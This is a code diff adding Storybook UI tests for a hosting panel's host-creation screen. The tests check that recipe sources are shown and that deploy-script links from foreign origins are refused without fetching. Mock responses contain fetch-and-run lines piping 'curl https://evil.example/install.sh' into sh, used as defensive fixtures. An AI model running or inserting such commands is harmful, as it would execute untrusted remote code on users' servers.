@@ -1,7 +1,10 @@
 import type { Meta, StoryObj } from '@storybook/react-vite';
+import { http, HttpResponse } from 'msw';
 import { expect, fn, waitFor, within } from 'storybook/test';
+import { createHandlers } from '@hostdeck/mock-api';
 import { panelStory } from '@storybook-helpers/panel-story';
 import { storyText } from '@storybook-helpers/story-text';
+import { DEFAULT_RECIPE_INDEX_URL } from '../../../../api/http/deploy-external';
 import { CreateHostScreenContainer } from './create-host.container';
 
 const wizardScriptKeys = () => Object.keys(window.sessionStorage).filter((key) => key.startsWith('hostdeck:wizard-scripts:'));
@@ -209,8 +212,143 @@ export const OrdersFromCustomScript: Story = {
     const submit = await canvas.findByRole('button', { name: t('order-form:submit') });
     await waitFor(() => expect(submit).toBeEnabled());
     await userEvent.click(submit);
+    await expect(canvas.getByText(t('script.origin.custom'))).toBeVisible();
     await waitFor(() => expect(args.onCreated).toHaveBeenCalledWith(expect.any(Number)));
     await expect(wizardScriptKeys()).toEqual([]);
     await expect(canvas.getByText(t('ui:step', { current: 3, total: 3 }))).toBeVisible();
+  },
+};
+
+const INDEX_ORIGIN = new URL(DEFAULT_RECIPE_INDEX_URL).origin;
+const RECIPES = new URL('.', DEFAULT_RECIPE_INDEX_URL).href;
+
+/**
+ * The order form names the tile's recipe and its full address before ordering; the script itself is behind a
+ * disclosure, closed at first, that opens from the keyboard and shows the script as plain, scrollable text.
+ */
+export const ShowsTileSource: Story = {
+  ...panelStory(),
+  play: async (context) => {
+    const { canvas, userEvent } = context;
+    const t = storyText(context, 'create-host');
+    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
+    await expect(await canvas.findByText(t('script.origin.recipe', { title: 'WordPress' }))).toBeVisible();
+    await expect(canvas.getByText(`${RECIPES}boot/wordpress.yml`)).toBeVisible();
+    const disclosure = canvas.getByRole('button', { name: t('script.title') });
+    await expect(disclosure).toHaveAttribute('aria-expanded', 'false');
+    await expect(canvas.queryByRole('region', { name: t('script.label') })).not.toBeInTheDocument();
+    disclosure.focus();
+    await userEvent.keyboard('{Enter}');
+    await expect(disclosure).toHaveAttribute('aria-expanded', 'true');
+    const script = canvas.getByRole('region', { name: t('script.label') });
+    await expect(script).toBeVisible();
+    await expect(script).toHaveTextContent('source: https://wordpress.org/latest.zip#wordpress');
+    await expect(document.getElementById(disclosure.getAttribute('aria-controls') ?? '')).toContainElement(script);
+    await userEvent.keyboard('{Enter}');
+    await expect(disclosure).toHaveAttribute('aria-expanded', 'false');
+    await expect(canvas.queryByRole('region', { name: t('script.label') })).not.toBeInTheDocument();
+  },
+};
+
+const FROM_INDEX_ORIGIN = `${RECIPES}boot/laravel.yml`;
+
+/** A `?from=` link on the recipe index's origin loads into the editor, and the order form names its full address. */
+export const FromLinkOnIndexOrigin: Story = {
+  ...panelStory(),
+  args: { location: { from: FROM_INDEX_ORIGIN } },
+  play: async (context) => {
+    const { canvas, userEvent } = context;
+    const t = storyText(context, 'create-host');
+    const editor = await canvas.findByRole('textbox', { name: t('template-editor:label') });
+    await waitFor(() => expect(editor).toHaveTextContent('public_html/public'));
+    const next = canvas.getByRole('button', { name: t('custom.continue') });
+    await waitFor(() => expect(next).toBeEnabled());
+    await userEvent.click(next);
+    await expect(await canvas.findByText(t('script.origin.link'))).toBeVisible();
+    await expect(canvas.getByText(FROM_INDEX_ORIGIN)).toBeVisible();
+    await expect(canvas.queryByText(t('refused.title'))).not.toBeInTheDocument();
+  },
+};
+
+const FOREIGN_FROM = 'https://evil.example/deploy.yml';
+/** Requests that reached the other origin: none may. */
+const foreignRequests: string[] = [];
+const foreign = panelStory();
+
+/**
+ * A `?from=` link to another origin is refused before anything is fetched: the alert names both origins, and the
+ * editor holds the default script, not the linked one.
+ */
+export const FromLinkOtherOrigin: Story = {
+  ...foreign,
+  args: { location: { from: FOREIGN_FROM } },
+  parameters: {
+    msw: {
+      handlers: {
+        world: [
+          http.get('https://evil.example/*', ({ request }) => {
+            foreignRequests.push(request.url);
+            return HttpResponse.text('commands:\n  - curl https://evil.example/install.sh | sh\n');
+          }),
+          ...createHandlers(foreign.store),
+        ],
+      },
+    },
+  },
+  beforeEach: () => {
+    foreignRequests.length = 0;
+    foreign.beforeEach();
+  },
+  play: async (context) => {
+    const { canvas } = context;
+    const t = storyText(context, 'create-host');
+    const alert = (await canvas.findByText(t('refused.title'))).closest('[role="alert"]');
+    // The origins are set apart (U+2068 ... U+2069) so a right-to-left sentence keeps them whole.
+    await expect(alert).toHaveTextContent(t('refused.text', { allowed: `\u2068${INDEX_ORIGIN}\u2069`, refused: '\u2068https://evil.example\u2069' }));
+    await expect(canvas.queryByText(t('common:errors.missingTemplate'))).not.toBeInTheDocument();
+    const editor = await canvas.findByRole('textbox', { name: t('template-editor:label') });
+    await expect(editor).not.toHaveTextContent('curl');
+    await expect(editor).not.toHaveTextContent('evil.example');
+    await expect(foreignRequests).toEqual([]);
+  },
+};
+
+const elsewhere = panelStory();
+/** Requests that reached the other origin the index points at: none may. */
+const elsewhereRequests: string[] = [];
+
+/**
+ * An index whose relative_url points at another origin: choosing a tile fetches nothing from there, and the tiles come
+ * back with the alert naming that origin.
+ */
+export const TileFromOtherOrigin: Story = {
+  ...elsewhere,
+  parameters: {
+    msw: {
+      handlers: {
+        world: [
+          http.get(DEFAULT_RECIPE_INDEX_URL, () => HttpResponse.text('relative_url: https://recipes.evil.example/\ntemplates:\n  - {title: WordPress, file: boot/wordpress.yml}\n')),
+          http.get('https://recipes.evil.example/*', ({ request }) => {
+            elsewhereRequests.push(request.url);
+            return HttpResponse.text('commands:\n  - curl https://recipes.evil.example/install.sh | sh\n');
+          }),
+          ...createHandlers(elsewhere.store),
+        ],
+      },
+    },
+  },
+  beforeEach: () => {
+    elsewhereRequests.length = 0;
+    elsewhere.beforeEach();
+  },
+  play: async (context) => {
+    const { canvas, userEvent } = context;
+    const t = storyText(context, 'create-host');
+    await userEvent.click(await canvas.findByRole('button', { name: 'WordPress' }));
+    const alert = (await canvas.findByText(t('refused.title'))).closest('[role="alert"]');
+    await expect(alert).toHaveTextContent(t('refused.text', { allowed: `\u2068${INDEX_ORIGIN}\u2069`, refused: '\u2068https://recipes.evil.example\u2069' }));
+    await expect(canvas.getByRole('button', { name: 'WordPress' })).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: t('order-form:submit') })).not.toBeInTheDocument();
+    await expect(elsewhereRequests).toEqual([]);
   },
 };
